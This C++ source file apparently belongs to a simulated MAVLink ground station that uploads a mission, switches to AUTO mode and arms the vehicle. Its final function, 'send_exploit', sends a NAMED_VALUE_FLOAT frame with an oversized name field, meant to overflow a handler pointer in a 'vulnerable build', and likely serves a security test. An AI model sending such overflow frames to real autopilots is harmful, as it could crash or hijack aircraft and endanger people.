#include "ground_station.hpp"

#include <cmath>
#include <cstring>

#include "messages.hpp"

namespace world {

namespace {
constexpr double kRetryS = 1.0;
}

void GroundStation::update(mav::Channel& link, double time_s) {
  mav::Frame frame;
  while (link.poll(frame)) handle(link, frame, time_s);

  if (last_heartbeat_s_ < 0 || time_s - last_heartbeat_s_ >= 1.0) {
    last_heartbeat_s_ = time_s;
    mav::Heartbeat hb{};
    hb.type = 6;  // MAV_TYPE_GCS
    hb.autopilot = 8;
    hb.mavlink_version = 3;
    link.send(mav::make_frame(mav::HEARTBEAT, hb));
  }
  const bool retry = last_request_s_ < 0 || time_s - last_request_s_ >= kRetryS;
  switch (phase_) {
    case Phase::WaitHeartbeat:
      break;
    case Phase::Uploading:
      if (retry) {
        last_request_s_ = time_s;
        link.send(mav::make_frame(mav::MISSION_COUNT,
                                   mav::MissionCount{static_cast<std::uint16_t>(mission_.items.size()), 1, 1}));
      }
      break;
    case Phase::SetAuto:
      if (retry) {
        last_request_s_ = time_s;
        link.send(mav::make_frame(mav::SET_MODE, mav::SetMode{mav::MODE_AUTO, 1, 1}));
      }
      break;
    case Phase::Arming:
      if (retry) {
        last_request_s_ = time_s;
        mav::CommandLong cmd{};
        cmd.command = mav::CMD_COMPONENT_ARM_DISARM;
        cmd.param[0] = 1;
        link.send(mav::make_frame(mav::COMMAND_LONG, cmd));
      }
      break;
    case Phase::Flying:
      break;
  }
}

void GroundStation::send_item(mav::Channel& link, int seq) {
  const MissionItem& item = mission_.items.at(static_cast<std::size_t>(seq));
  mav::MissionItemInt msg{};
  msg.param1 = static_cast<float>(item.param[0]);
  msg.param2 = static_cast<float>(item.param[1]);
  msg.param3 = static_cast<float>(item.param[2]);
  msg.param4 = static_cast<float>(item.param[3]);
  msg.x = static_cast<std::int32_t>(std::lround(item.lat * 1e7));
  msg.y = static_cast<std::int32_t>(std::lround(item.lng * 1e7));
  msg.z = static_cast<float>(item.alt);
  msg.seq = static_cast<std::uint16_t>(seq);
  msg.command = static_cast<std::uint16_t>(item.command);
  msg.frame = static_cast<std::uint8_t>(item.frame);
  msg.current = static_cast<std::uint8_t>(item.current);
  msg.autocontinue = static_cast<std::uint8_t>(item.autocontinue);
  link.send(mav::make_frame(mav::MISSION_ITEM_INT, msg));
}

void GroundStation::handle(mav::Channel& link, const mav::Frame& frame, double time_s) {
  switch (frame.msgid) {
    case mav::HEARTBEAT: {
      const auto hb = mav::read_payload<mav::Heartbeat>(frame);
      mode_ = hb.custom_mode;
      const bool armed = (hb.base_mode & mav::kBaseModeArmed) != 0;
      if (armed && !armed_ && phase_ == Phase::Arming) arm_time_s_ = time_s;
      armed_ = armed;
      if (phase_ == Phase::WaitHeartbeat) {
        phase_ = Phase::Uploading;
        last_request_s_ = -1;
      }
      break;
    }
    case mav::MISSION_REQUEST_INT: {
      const auto req = mav::read_payload<mav::MissionRequestInt>(frame);
      if (req.seq < mission_.items.size()) send_item(link, req.seq);
      break;
    }
    case mav::MISSION_ACK: {
      const auto ack = mav::read_payload<mav::MissionAck>(frame);
      if (phase_ == Phase::Uploading && ack.type == 0) {
        phase_ = Phase::SetAuto;
        last_request_s_ = -1;
      }
      break;
    }
    case mav::COMMAND_ACK: {
      const auto ack = mav::read_payload<mav::CommandAck>(frame);
      if (ack.result != 0) break;
      if (phase_ == Phase::SetAuto && ack.command == mav::SET_MODE) {
        phase_ = Phase::Arming;
        last_request_s_ = -1;
      } else if (phase_ == Phase::Arming && ack.command == mav::CMD_COMPONENT_ARM_DISARM) {
        phase_ = Phase::Flying;
        started_ = true;
        armed_ = true;
        arm_time_s_ = time_s;
      }
      break;
    }
    case mav::MISSION_CURRENT:
      mission_current_ = mav::read_payload<mav::MissionSeq>(frame).seq;
      break;
    case mav::MISSION_ITEM_REACHED:
      items_reached_.push_back(mav::read_payload<mav::MissionSeq>(frame).seq);
      break;
    case mav::STATUSTEXT: {
      const auto text = mav::read_payload<mav::StatusText>(frame);
      texts_.emplace_back(text.text, strnlen(text.text, sizeof(text.text)));
      break;
    }
    default:
      break;
  }
}

void GroundStation::send_mode(mav::Channel& link, std::uint32_t mode) {
  link.send(mav::make_frame(mav::SET_MODE, mav::SetMode{mode, 1, 1}));
}

void GroundStation::send_exploit(mav::Channel& link) {
  // NAMED_VALUE_FLOAT's name field is 10 bytes; this frame carries 24 bytes of "name": enough
  // to run over the value and the handler pointer stored after it in the vulnerable build.
  mav::Frame frame;
  frame.msgid = mav::NAMED_VALUE_FLOAT;
  const std::uint32_t time_boot_ms = 0;
  const float value = 0;
  std::memcpy(frame.payload, &time_boot_ms, 4);
  std::memcpy(frame.payload + 4, &value, 4);
  std::memset(frame.payload + 8, 0x41, 24);
  frame.len = 8 + 24;
  link.send(frame);
}

}  // namespace world
